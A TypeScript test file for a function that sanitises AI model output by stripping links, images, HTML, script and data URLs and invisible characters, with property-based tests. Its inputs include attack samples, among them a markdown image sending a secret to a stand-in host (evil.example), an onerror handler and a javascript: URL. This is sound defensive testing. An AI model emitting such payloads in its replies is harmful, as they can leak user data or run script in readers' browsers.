import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanModelText, cutModelText } from "./model-text.ts";

describe("cleanModelText and cutModelText", () => {
  it.each([
    ["a picture", "Bees ![x](https://evil.example/?q=secret) fly", "Bees fly"],
    ["a picture without an end", "Bees ![x](https://evil.example/?q=", "Bees"],
    ["a picture by reference", "Bees ![x][1] fly\n[1]: https://evil.example/x.png", "Bees fly"],
    ["a link", "Bees [fly](https://evil.example)", "Bees fly"],
    ["a link in a link", "[![x](https://evil.example/a)](https://evil.example/b)Bees", "Bees"],
    ["a bare address", "Bees fly (https://evil.example/a?b=c#d).", "Bees fly."],
    ["an address without its scheme", "See www.evil.example/now, please", "See, please"],
    ["an autolink", "Bees <https://evil.example/> fly", "Bees fly"],
    ["a script address", "Bees javascript:alert(1) fly", "Bees fly"],
    ["a data address", "Bees data:text/html;base64,AAAA fly", "Bees fly"],
    ["markup", 'Bees <img src="x" onerror="y()"> <b>fly</b><br/>', "Bees fly"],
    ["markup in markup", "Bees <scr<script>ipt>fly</scr</script>ipt>", "Bees fly"],
    ["markup without an end", 'Bees <iframe src="evil', "Bees"],
    ["unknown markup with an address", "Bees <x-y href=z>fly", "Bees fly"],
    ["a comment", "Bees <!-- hidden --> fly", "Bees fly"],
    ["emphasis", "**Bees** and _wasps_ *fly* `fast`", "Bees and wasps fly fast"],
    ["headings and bullets", "# Bees\n- fly\n2. fast", "Bees fly fast"],
    ["characters that hide or turn", "Be\u200bes \u202efly\u202c\u0000\ud800", "Bees fly"],
  ])("remove %s", (_what, given, plain) => {
    expect(cleanModelText(given)).toBe(plain);
  });

  it.each([
    "The <dialog> element, explained",
    "2 * 3 * 4 = 24, and a < b > c",
    "snake_case and __init__ lead to x_1",
    "Data: what we know. Java: Node.js at example.org",
    "Why C++ & C# (and F#) stay – 10–20 % faster",
    "养蜂 は楽しい 🐝👩‍🌾",
  ])("keep %s", (text) => {
    expect(cleanModelText(text)).toBe(text.replace("__init__", "init"));
  });

  it("leave no URL, picture or tag in any input", () => {
    const piece = fc.constantFrom(
      ..."![](<>)\"'=/:*_`#".split(""),
      "<img ",
      "src=x",
      "<a href=",
      "</a>",
      "https://",
      "http://e.example/",
      "www.",
      "javascript:",
      "<script>",
      "bees ",
      "\n",
      "\u200b",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const clean = cleanModelText(pieces.join(""));
        expect(clean).not.toMatch(/:\/\/|\[[^\]]*\]\(|<\/?(?:img|a|script)\b|\bjavascript:\S/i);
        expect(clean).not.toMatch(/[\n\u200b]/);
        expect(cleanModelText(clean)).toBe(clean);
      }),
      { numRuns: 2_000 },
    );
  });

  it("return plain text however deep the markup is nested", () => {
    const nested = `${"<b".repeat(900)}${">".repeat(900)} bees`;
    expect(cleanModelText(nested)).not.toContain("<");
    expect(cleanModelText(`${"[".repeat(900)}bees${"](x)".repeat(700)}`)).not.toMatch(/[[\]()]/);
  });

  it("cut after a word, and never inside a character", () => {
    expect(cutModelText("one two three four", 14)).toBe("one two three…");
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.integer({ min: 2, max: 40 }), (text, most) => {
        const whole = text.toWellFormed();
        const cut = cutModelText(whole, most);
        expect(cut.length).toBeLessThanOrEqual(most);
        expect(cut.isWellFormed()).toBe(true);
        expect(cut === whole).toBe(whole.length <= most);
      }),
    );
  });
});
